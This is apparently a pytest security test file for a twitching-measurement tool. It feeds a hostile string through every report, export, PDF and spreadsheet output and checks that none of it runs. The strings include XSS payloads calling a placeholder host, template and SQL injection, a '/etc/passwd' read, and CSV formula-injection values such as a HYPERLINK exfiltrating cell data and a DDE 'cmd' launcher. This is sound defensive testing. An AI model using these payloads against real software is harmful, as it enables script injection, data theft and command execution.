"""One hostile text goes through every output: as a file's name, a note, an answer, a review, a sentence.

A page may show it, and nothing of it may run, be asked for, or change what the file says elsewhere.
"""

from __future__ import annotations

import csv
import json
import re
import warnings
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import summaries
from exported import busy

from twitchcam.course import Course, CourseMark, CoursePoint, Trend
from twitchcam.edges.cohort.content import ClipLine, Cohort, Group
from twitchcam.edges.cohort.page import write_cohort
from twitchcam.edges.long_tables import long_table
from twitchcam.edges.outputs import EVENT_COLUMNS, summary_to_dict, write_reviewed_tsv, write_summary_json
from twitchcam.edges.pdf import render_pdf
from twitchcam.edges.report import write_report
from twitchcam.edges.trend_page import write_trend_page
from twitchcam.errors import InputRefused
from twitchcam.exporting import ExportOptions, write_export
from twitchcam.live.saving import Mark, _write_marks
from twitchcam.schema import load_schema
from twitchcam.summary import Reviewed, ReviewMark, ScaleEstimate, Summary

BAIT = (
    "</script></style></title></textarea>--><script>hacked(1)</script>",
    "<img src=http://192.0.2.1/x onerror=hacked(2)><svg onload=hacked(3)>",
    "\"' autofocus onfocus=hacked(4) x='`${hacked(5)}",
    "{{7*7}}{% raw %}{hacked}{0}{n:s} %s %(x)s \\u003cb\\u003e &lt;b&gt; &#60;b&#62; ]]>",
    "javascript:hacked(6) \u2028\u2029 \ue000option\ue001 <!--<script>",
    '#image("/etc/passwd") #eval("1") #link("http://192.0.2.1") $x$ *b* _i_ @ref <label> \\ `#raw`',
    "\x1b[2J\x07\x08\u202egpm\u2066\ufeff\udcff\x00\x85 \r\n\t; DROP TABLE session; --",
)
HOSTILE = " ".join(BAIT)
FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1,"see")'
TEXTS = {
    "Source": ("file",), "TrackerInfo": ("backend", "version"), "Quality": ("reasons",),
    "Triage": ("reasons", "advice"), "Pattern": ("evidence", "against", "sources"),
    "ScaleEstimate": ("title", "scale", "basis", "missing", "sources"), "Reviewed": ("reviewer", "when"),
    "ReviewMark": ("note",), "CoursePoint": ("why_not",), "CourseMark": ("text",), "Trend": ("reason",),
    "Course": ("sentences",), "ClipLine": ("name", "file", "subject", "session", "error"),
    "Group": ("name",), "Summary": ("answers",),
}  # fmt: skip
"""Where text from outside, or text that quotes it, stands in what the outputs are given."""


def spoilt(value: Any, text: str = HOSTILE) -> Any:
    """Return the carriers with the hostile text wherever text may come from outside."""
    if isinstance(value, tuple):
        return tuple(spoilt(item, text) for item in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    given = {f.name: spoilt(getattr(value, f.name), text) for f in fields(value) if f.init}
    for name in TEXTS.get(type(value).__name__, ()):
        old = given[name]
        given[name] = (text,) * max(1, len(old)) if isinstance(old, tuple) else text
        if isinstance(old, dict):
            given[name] = {text: text, "other_symptoms": text, "medicines": [text]}
    with warnings.catch_warnings():
        return replace(value, **given)


def course() -> Course:
    points = tuple(
        CoursePoint(f"2026-0{k}-01", "ok", 60.0, 9, 9.0, (4.0, 17.0), 0.5, (0.4, 0.6), 0.3, (0.1, 0.5),
                    True, k < 3, ("why",), k == 4)
        for k in range(1, 5)
    )  # fmt: skip
    trend = Trend("rate", 4, None, None, "not_assessable", "why")
    marks = (CourseMark("2026-02-02", "x"),)
    return Course(4, 4, "2026-01-01", "2026-04-01", 90, 4, 4, None, (trend,), (), None, marks, points, ("x",))


@cache
def hostile() -> Summary:
    """Everything that a result can hold, with the hostile text in every place that takes one."""
    plain = summaries.twitching()
    kept, changed, *_ = plain.measured.events
    marks = (ReviewMark("keep", kept, kept, "n"), ReviewMark("add", changed, None, "n"))
    measured = replace(plain.measured, review=Reviewed("AB", "2026-03-04", marks, 1, 0.5, 0.5, 0.5))
    scale = ScaleEstimate("x", "t", "v", "s", ("b",), ("m",), ("s",))
    full = replace(
        plain, measured=measured, history=course(), answers={"a": "b"}, scales=(scale, *plain.scales)
    )
    made: Summary = spoilt(full)
    return made


def cohort() -> Cohort:
    line = ClipLine("n", "f", "r/report.html", "s", "t", "ok", 1.0, 0.5, "left", "see_doctor", 1.0, 2.0, "e")
    some = np.array([1.0, 2.0, 3.0])
    plain = Cohort(
        3, 2, 1, 1, 60.0, 50.0, {"ok": 2}, {"see_doctor": 2}, some, some, some, some, some / 4,
        (Group("g", 2, some, some),), (Group("g", 2, some, some),), (), {"speech": 3.0},
        (line,), (line,), (line,),
    )  # fmt: skip
    made: Cohort = spoilt(plain)
    return made


def value_of() -> tuple[float, tuple[float, float]]:
    return 1.0, (0.5, 2.0)


@cache
def pages(folder: Path) -> list[Path]:
    """Every page that is written, with the hostile text in it."""
    made = []
    for language in ("en", "de"):
        made.append(folder / f"report-{language}.html")
        write_report(hostile(), made[-1], language=language)
    made.append(folder / "cohort.html")
    write_cohort(cohort(), made[-1])
    for ending in (".html", ".svg"):
        made.append(folder / f"course{ending}")
        write_trend_page(made[-1], spoilt(course()), {HOSTILE: [value_of()] * 4}, HOSTILE)
    paths = write_export("svg", folder / "figures", hostile(), busy(), options=ExportOptions(), name="x")
    return [*made, *paths]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return pages(tmp_path_factory.mktemp("pages"))


@pytest.mark.browser
def test_nothing_of_it_runs_in_a_browser(browser: Any, written: list[Path]) -> None:
    """Each page, opened, unfolded and looked over: no script of the text, no dialog, no request."""
    happened: list[str] = []
    context = browser.new_context()
    context.expose_function("hacked", lambda n=None: happened.append(f"ran {n}"))
    view = context.new_page()
    view.on("dialog", lambda dialog: happened.append(f"dialog {dialog.message}"))
    view.on("console", lambda m: happened.append(m.text) if m.type == "error" else None)
    view.on("pageerror", lambda error: happened.append(str(error)))
    view.on("request", lambda r: happened.append(r.url) if r.url != view_of["url"] else None)
    view_of = {"url": ""}
    for path in written:
        view_of["url"] = path.as_uri()
        view.goto(path.as_uri())
        found = view.evaluate(
            """() => {
              document.querySelectorAll("details").forEach((d) => { d.open = true; });
              const all = [...document.querySelectorAll("*")];
              const acting = all.filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name)
                || /^(javascript|data:text)/i.test(a.value.trim())));
              const outside = all.filter((e) => /192\\.0\\.2\\.1/.test(
                (e.getAttribute("src") || "") + (e.getAttribute("href") || "")));
              return {acting: acting.length, outside: outside.length,
                scripts: [...document.querySelectorAll("script")].filter(
                  (s) => /hacked\\(1\\)/.test(s.textContent) && s.type !== "application/json").length,
                images: document.querySelectorAll("img[src^=http]").length,
                shown: document.documentElement.textContent.includes("hacked(1)")};
            }"""
        )
        assert found["shown"] or path.suffix == ".svg", path.name
        assert (found["acting"], found["outside"], found["scripts"], found["images"]) == (0, 0, 0, 0), (
            path.name
        )
    context.close()
    assert happened == []


def test_the_pages_are_whole_and_their_data_is_data(written: list[Path]) -> None:
    for path in written:
        text = path.read_text(encoding="utf-8")
        assert "<script>hacked" not in text, path.name
        assert "\x00" not in text, path.name
        assert "<img src=http" not in text
        if path.suffix == ".svg":
            root = ET.fromstring(text)
            names = {element.tag.rpartition("}")[2].lower() for element in root.iter()}
            assert not names & {"script", "foreignobject", "iframe", "a", "animate"}, path.name
            linked = [e.attrib[a] for e in root.iter() for a in e.attrib if a.rpartition("}")[2] == "href"]
            assert all(link.startswith(("#", "data:image/png;")) for link in linked), path.name
            assert not [a for e in root.iter() for a in e.attrib if a.rpartition("}")[2].startswith("on")]
        for data in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.S):
            json.loads(data)
        assert text.rstrip().endswith(("</html>", "</svg>")), path.name


def test_the_machine_s_files_hold_it_as_text(tmp_path: Path) -> None:
    import jsonschema

    write_summary_json(tmp_path / "summary.json", hostile())
    back = json.loads((tmp_path / "summary.json").read_text(encoding="utf-8"))
    assert back["triage"]["advice"][0].startswith(BAIT[0])
    assert back["source"]["file"].startswith(BAIT[0])
    assert back.keys() == summary_to_dict(hostile()).keys()
    whole = {**back, "answers": {}}  # answers with unknown keys are refused when they are read
    jsonschema.validate(whole, load_schema())
    review = hostile().measured.review
    assert review is not None
    write_reviewed_tsv(tmp_path / "events_reviewed.tsv", review)
    lines = (tmp_path / "events_reviewed.tsv").read_text(encoding="utf-8").split("\n")
    assert [line.count("\t") for line in lines if line] == [len(EVENT_COLUMNS) + 1] * 3


def test_the_exports_hold_it_as_text(tmp_path: Path) -> None:
    recording = replace(busy(), source=replace(busy().source, file=HOSTILE))
    (fhir,) = write_export("fhir", tmp_path / "fhir.json", hostile(), recording)
    bundle = json.loads(fhir.read_text(encoding="utf-8"))
    assert bundle["resourceType"] == "Bundle"
    for div in re.findall(r'"div": "((?:[^"\\]|\\.)*)"', fhir.read_text(encoding="utf-8")):
        names = {e.tag.rpartition("}")[2] for e in ET.fromstring(json.loads(f'"{div}"')).iter()}
        assert not names & {"script", "img", "svg", "iframe", "a"}
    for export_format in ("csv", "tsv"):
        for path in write_export(export_format, tmp_path / export_format, hostile(), recording, name="x"):
            if path.suffix == ".json":
                json.loads(path.read_text(encoding="utf-8"))
                continue
            with open(path, encoding="utf-8", newline="") as handle:
                rows = list(csv.reader(handle, delimiter="\t" if export_format == "tsv" else ","))
            assert len({len(row) for row in rows}) == 1, path.name
    for subject in (HOSTILE, "a b", "\n", "\u202ex", "x\0", "x" * 500, "../../x", "a/b", FORMULA):
        # An EDF+ header has a fixed place for the code: any plain word fits.
        word = subject in ("../../x", "a/b", FORMULA)
        for export_format in ("bids",) if word else ("edf", "bids"):
            with pytest.raises(InputRefused):
                write_export(
                    export_format,
                    tmp_path / f"{export_format}-x",
                    hostile(),
                    recording,
                    options=ExportOptions(subject, "", ""),
                )
    (edf,) = write_export("edf", tmp_path / "x.edf", hostile(), recording)
    head = edf.read_bytes()[:256]
    assert head.isascii()
    assert b"hacked" not in head
    assert head[8:88].decode().split() == ["X", "X", "X", "X"]
    for path in write_export("bids", tmp_path / "study", hostile(), recording):
        if path.suffix == ".json":
            json.loads(path.read_text(encoding="utf-8"))
    for path in write_export("mne", tmp_path / "x.txt", hostile(), recording):
        assert all(line.startswith("#") or line.count(",") >= 2 for line in path.read_text().splitlines())


def test_the_pdf_holds_it_as_text(tmp_path: Path) -> None:
    from pypdf import PdfReader

    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(hostile()))
    raw = path.read_bytes()
    for acting in (b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/EmbeddedFile", b"/OpenAction /"):
        assert acting not in raw, acting
    reader = PdfReader(path)
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "hacked(1)" in re.sub(r"\s+", "", text)
    assert "#image(" in re.sub(r"\s+", "", text)
    assert "root:x:0" not in text
    for page in reader.pages:
        for note in page.get("/Annots") or ():
            action = note.get_object().get("/A", {})
            assert "192.0.2.1" not in str(action)
            assert action.get("/S") != "/Launch"


def spreadsheet_cells(path: Path, delimiter: str) -> Iterator[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        for row in list(csv.reader(handle, delimiter=delimiter))[1:]:
            yield from row


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    """What people write into names and notes is not to be worked out when the table is opened in a program
    for tables; numbers stay as they are."""
    baits = (FORMULA, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3+cmd", "\t=1", "\r=1", " =1")
    with long_table(tmp_path / "batch.csv", ["name", "rate", "lag"]) as write:
        for bait in baits:
            write([bait, -1.5, "-2"])
    review = spoilt(hostile().measured.review, FORMULA)
    write_reviewed_tsv(tmp_path / "events_reviewed.tsv", review)
    _write_marks(tmp_path / "marks.tsv", [Mark(1.0, FORMULA), Mark(2.0, "@x\ty\r\nz")])
    for name, delimiter in (("batch.csv", ","), ("events_reviewed.tsv", "\t"), ("marks.tsv", "\t")):
        for cell in spreadsheet_cells(tmp_path / name, delimiter):
            number = re.fullmatch(r"[-+]?[\d.]+(e[-+]?\d+)?", cell)
            assert number or not cell.lstrip(" \t\r\n").startswith(("=", "@", "+", "-")), (name, cell)
    assert "-1.5" in (tmp_path / "batch.csv").read_text(encoding="utf-8")
